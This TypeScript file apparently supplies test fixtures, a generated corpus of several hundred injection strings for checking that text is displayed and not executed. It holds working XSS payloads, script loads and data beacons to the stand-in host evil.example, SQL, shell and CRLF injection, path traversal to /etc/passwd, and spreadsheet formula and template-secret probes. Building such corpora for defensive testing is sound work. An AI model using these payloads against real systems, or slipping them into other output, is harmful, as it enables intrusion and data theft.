/**
 * Texts that do harm where text is taken for code: each is one way in which a page has been made to run what it should
 * have shown. All that succeed call or set `__xss`, open a dialog, ask something of `evil.example`, or move the page.
 *
 * Made rather than listed where they differ in one part alone: a payload in each place where markup lets one stand.
 */

const RUN = "__xss=1";

const ELEMENTS = ["img", "svg", "body", "video", "audio", "iframe", "details", "input", "object", "marquee"];
const EVENTS = ["onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];

/** Handlers on elements that fire by themselves, or at the first touch. */
const HANDLERS = ELEMENTS.flatMap((element) =>
  EVENTS.map((event) => `<${element} src=x href=x autofocus tabindex=1 open ${event}=${RUN}>`),
);

/** Ends what the text stands in, then goes on as markup. */
const CLOSERS = [
  `"`,
  `'`,
  "`",
  `">`,
  `'>`,
  `--><`,
  `--!>`,
  `]]>`,
  `</title>`,
  `</textarea>`,
  `</style>`,
  `</script>`,
  `</noscript>`,
  `</template>`,
  `</xmp>`,
  `</select>`,
  `</svg>`,
  `</math>`,
  `*/`,
  `?>`,
];
const BREAKOUTS = CLOSERS.flatMap((closer) => [
  `${closer}<script>${RUN}</script>`,
  `${closer}<img src=x onerror=${RUN}>`,
  `${closer} onfocus=${RUN} autofocus x=`,
]);

/** Addresses that are code, or take the page elsewhere. */
const ADDRESSES = [
  "javascript:__xss=1",
  "JaVaScRiPt:__xss=1",
  " javascript:__xss=1",
  "\u0001javascript:__xss=1",
  "java\tscript:__xss=1",
  "java\nscript:__xss=1",
  "java&#10;script:__xss=1",
  "&#106;avascript:__xss=1",
  "javascript&colon;__xss=1",
  "javascript://evil.example/%0A__xss=1",
  "vbscript:__xss=1",
  "data:text/html,<script>parent.__xss=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=1'/>",
  "//evil.example/x.js",
  "https://evil.example/x.js",
  "\\\\evil.example\\share",
  "blob:https://evil.example/1",
];
const CARRIERS = [
  (address: string) => `<a href="${address}">here</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `[here](${address})`,
];
const LINKS = ADDRESSES.flatMap((address) => [address, ...CARRIERS.map((carrier) => carrier(address))]);

/** Markup that loads, frames, moves or styles without a handler. */
const ELEMENTS_THAT_ACT = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script >`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=preload as=script href=https://evil.example/x.js>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action=https://evil.example/><input name=x><button>Send</button></form>`,
  `<button formaction="javascript:${RUN}">Go</button>`,
  `<img src=https://evil.example/pixel>`,
  `<img srcset="https://evil.example/pixel 1x">`,
  `<picture><source srcset="https://evil.example/p"><img src=x></picture>`,
  `<video poster=https://evil.example/p></video>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url(https://evil.example/p)}</style>`,
  `<style>@keyframes x{}*{animation:x}</style><p onanimationstart=${RUN}>`,
  `<div style="background:url(https://evil.example/p)">`,
  `<div style="width:expression(${RUN})">`,
  `<div style="behavior:url(#default#time2)" onbegin="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<x-card is="x-card" onclick=${RUN}>`,
  `<p slot=x contenteditable onbeforeinput=${RUN}>`,
  `<dialog open onclose=${RUN}></dialog>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<a ping=https://evil.example/ href=#>here</a>`,
  `<input type=image src=https://evil.example/p>`,
  `<table background=https://evil.example/p>`,
  `<form id=__proto__><input name=innerHTML></form>`,
  `<a id=root></a><a id=root name=firstChild></a>`,
  `<div id=why hidden=false aria-hidden=true role=dialog>`,
];

/** For templates, interpolation and formats that evaluate. */
const TEMPLATES = [
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{{${RUN}}}}`,
  `{%raw%}<script>${RUN}</script>{%endraw%}`,
  `{%if 1%}${RUN}{%endif%}`,
  `$\{${RUN}}`,
  `\`$\{${RUN}}\``,
  "#{__xss=1}",
  "<%= __xss=1 %>",
  "<%- '<script>__xss=1</script>' %>",
  "@{__xss=1}",
  `[[$\{${RUN}}]]`,
  "{dangerouslySetInnerHTML:{__html:'<img src=x onerror=__xss=1>'}}",
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  "{{setting.app_secret}}",
  "{{jwt.token}}",
  "{{ticket.requester.email}}",
  "{{dc.secret}}",
  "$&$`$'$1",
  "%s%s%n%x",
  "%3Cscript%3E__xss=1%3C/script%3E",
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example","here")',
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "[object Object]",
];

/** Ends a string of JSON, JavaScript, SQL, a shell or CSS. */
const STRING_BREAKERS = [
  `"};${RUN};//`,
  `'};${RUN};//`,
  `\\";${RUN};//`,
  `\\`,
  `\\\\`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `</script><script>${RUN}</script>`,
  `<!--<script>`,
  `"}],"state":"left","steps":["`,
  `{"state":"unknown"}`,
  `",__xss=1,"`,
  "';__xss=1//\";__xss=1//",
  "\u2028__xss=1//",
  "\u2029__xss=1//",
  `'; DROP TABLE decision; --`,
  `1' OR '1'='1`,
  `$(touch /tmp/xss)`,
  "`touch /tmp/xss`",
  `| cat /etc/passwd`,
  `../../../../etc/passwd`,
  `;}*{background:url(https://evil.example/p)`,
  `\r\nSet-Cookie: xss=1`,
  `\r\n\r\n<script>${RUN}</script>`,
];

/** The same through entities and letters that look alike, grow, turn, join or can't be seen. */
const LETTERS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&#0000060script&#0000062${RUN}`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `&nbsp;&shy;&zwj;&lrm;`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u02c2script\u02c3${RUN}`,
  `\u2039script\u203a${RUN}`,
  `<\u0001script>${RUN}</script>`,
  `<scrip\u0074>${RUN}</scrip\u0074>`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `<\u0130mg src=x onerror=${RUN}>`,
  `<img\u00a0src=x\u3000onerror=${RUN}>`,
  `<img\fsrc=x\fonerror=${RUN}>`,
  `<img\u000bsrc=x\u000bonerror=${RUN}>`,
  `\u202egnp.<img src=x onerror=${RUN}>`,
  `\u202eenterprise\u202c`,
  `\u2066\u2067right to left\u2069\u2069`,
  `\u061cArabic\u200f\u200e`,
  `\u0645\u0631\u062d\u0628\u0627 <script>${RUN}</script> \u05e9\u05dc\u05d5\u05dd`,
  `zero\u200bwidth\u200c\u200d\ufeff<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `Z\u0351\u0357\u0300a\u0489\u0353l\u0336\u031bg\u0321o\u0328${"\u0336".repeat(60)}`,
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}<b>`,
  `\u{e0001}\u{e0041}\u{e007f}`,
  `\ufff9shown\ufffasaid\ufffb`,
  `\ufdfd\ufdfd\ufdfd`,
  `\u1d2c\u1d2d<i>`,
  `\ufffd<script>${RUN}</script>`,
  `\u0007\u0008\u001b[31m<b>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** Nothing of it is wrong but its length. */
const LENGTHS = [
  `<b>${"a".repeat(2_000)}`,
  `<i> ${"a ".repeat(1_000)}`,
  `${"<div>".repeat(300)}`,
  `${"\u202e".repeat(300)}x`,
  `${"\u{1f3f4}".repeat(300)}`,
  `${"&".repeat(1_000)}lt;`,
  `${"\n".repeat(200)}<b>`,
  `${"A".repeat(300)}<img src=x onerror=${RUN}>`,
];

/** More than three hundred, each another. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...ELEMENTS_THAT_ACT,
    ...HANDLERS,
    ...BREAKOUTS,
    ...LINKS,
    ...TEMPLATES,
    ...STRING_BREAKERS,
    ...LETTERS,
    ...LENGTHS,
  ]),
];

export function groupsOf<Item>(items: readonly Item[], size: number): readonly (readonly Item[])[] {
  return Array.from({ length: Math.ceil(items.length / size) }, (_, index) =>
    items.slice(index * size, (index + 1) * size),
  );
}

/** Texts in one; `place` tells it from another that holds the same. */
export const joined = (texts: readonly string[], place: string): string => `${place}: ${texts.join(" | ")}`;
